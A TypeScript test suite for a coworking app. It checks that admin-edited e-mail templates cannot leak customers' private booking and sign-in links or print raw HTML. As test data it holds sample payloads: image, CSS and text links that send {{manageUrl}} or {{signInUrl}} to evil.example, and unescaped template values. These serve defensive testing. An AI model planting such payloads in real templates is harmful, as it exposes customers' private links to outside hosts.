import { MailService } from '../../src/modules/mail/delivery/mail.service.js';
import { MAIL_TEMPLATES } from '../../src/modules/mail/templates/default-templates.js';
import { startSmtpSink, type SmtpSink } from '../support/smtp-sink.js';
import { createTestApp, ROOT, type Session, signIn, type TestApp, workerMailDelivery } from '../support/test-app.js';

interface TemplateBody {
  id: string;
  name: string;
  htmlContent: string;
}

/**
 * An admin who may edit e-mail templates must not be able to send a customer's private link (the manage link of a
 * booking, a member's sign-in link) to another host, nor print a visitor's text as HTML: such a save is refused with
 * a message naming the value, and a template that got into the table some other way is not sent.
 */
describe('e-mail templates cannot leak private links', () => {
  let smtp: SmtpSink;
  let testApp: TestApp;
  let root: Session;
  let confirmed: TemplateBody;
  const put = async (id: string, body: Record<string, unknown>) => {
    const response = await root.request('PUT', `/admin/email-templates/${id}`, body);
    return {
      status: response.status,
      body: (await response.json()) as { message: string; errors?: Record<string, string> },
    };
  };
  const stored = async (id: string) =>
    ((await (await root.request('GET', '/admin/email-templates')).json()) as TemplateBody[]).find(
      (template) => template.id === id,
    )!;

  beforeAll(async () => {
    smtp = await startSmtpSink();
    testApp = await createTestApp({
      SMTP_URL: smtp.url,
      MAIL_FROM: 'Syokimau Coworking Hub <hello@syokimau.test>',
      PUBLIC_URL: 'http://coworking.example',
    });
    root = await signIn(testApp.api, ROOT.username, ROOT.password);
    const templates = (await (await root.request('GET', '/admin/email-templates')).json()) as TemplateBody[];
    confirmed = templates.find((template) => template.name === MAIL_TEMPLATES.bookingConfirmed)!;
  });
  afterAll(async () => {
    await testApp.close();
    await smtp.close();
  });

  it('refuses a manage link inside an external image address, naming manageUrl, and keeps the template as it was', async () => {
    const refused = await put(confirmed.id, {
      htmlContent: '<p>Hi {{firstName}}</p><img src="https://evil.example/p?u={{manageUrl}}">',
    });
    expect(refused.status).toBe(400);
    expect(refused.body.message).toContain('{{manageUrl}}');
    expect(refused.body.errors?.htmlContent).toContain('{{manageUrl}}');
    expect((await stored(confirmed.id)).htmlContent).toBe(confirmed.htmlContent);

    const created = await root.request('POST', '/admin/email-templates', {
      name: 'sneaky',
      subject: 'Hello',
      htmlContent: '<p style="background: url(https://evil.example/?{{signInUrl}})">Hi</p>',
    });
    expect(created.status).toBe(400);
    expect(((await created.json()) as { message: string }).message).toContain('{{signInUrl}}');
  });

  it('refuses a private link in the subject and one glued to another address in the text part', async () => {
    const subject = await put(confirmed.id, { subject: 'Manage it at {{manageUrl}}' });
    expect(subject.status).toBe(400);
    expect(subject.body.errors?.subject).toContain('{{manageUrl}}');
    const text = await put(confirmed.id, { textContent: 'Open https://evil.example/?{{manageUrl}}' });
    expect(text.status).toBe(400);
    expect(text.body.errors?.textContent).toContain('{{manageUrl}}');
  });

  it('refuses unescaped values ({{{firstName}}} and {{& firstName}})', async () => {
    for (const htmlContent of ['<p>Hi {{{firstName}}}</p>', '<p>Hi {{& firstName}}</p>']) {
      const refused = await put(confirmed.id, { htmlContent });
      expect(refused.status).toBe(400);
      expect(refused.body.message).toContain('{{{firstName}}}');
    }
  });

  it('accepts a normal edit that keeps the manage link as the link itself', async () => {
    const htmlContent = '<p>Hi {{firstName}}, your booking is confirmed.</p><p><a href="{{manageUrl}}">Manage</a></p>';
    const saved = await root.request('PUT', `/admin/email-templates/${confirmed.id}`, { htmlContent });
    expect(saved.status).toBe(200);
    expect((await stored(confirmed.id)).htmlContent).toBe(htmlContent);
  });

  it('sends the built-in template instead of an unsafe one that reached the table without the check', async () => {
    await testApp
      .em()
      .execute(`update email_templates set html_content = ? where id = ?`, [
        '<p>Hi</p><img src="https://evil.example/p?u={{manageUrl}}">',
        confirmed.id,
      ]);
    const manageUrl = 'http://coworking.example/bookings/manage/Qm9va2luZ0FjY2Vzc1Rva2VuXzMyYnl0ZXNfcmFuZG9t';
    const outbox = await testApp.app.get(MailService).send({
      template: MAIL_TEMPLATES.bookingConfirmed,
      to: 'wanjiku@example.com',
      variables: { firstName: 'Wanjiku', spaceTitle: 'Hot Desk', date: '1 Dec 2026', time: '09:00', manageUrl },
    });
    const delivery = workerMailDelivery(testApp);
    try {
      expect(await delivery.deliver(outbox.id)).toMatchObject({ kind: 'sent' });
    } finally {
      delivery.onModuleDestroy();
    }
    const [message] = await smtp.waitForMessages(1);
    expect(message.html).not.toContain('evil.example');
    expect(message.html).toContain(`href="${manageUrl}"`);
  });
});
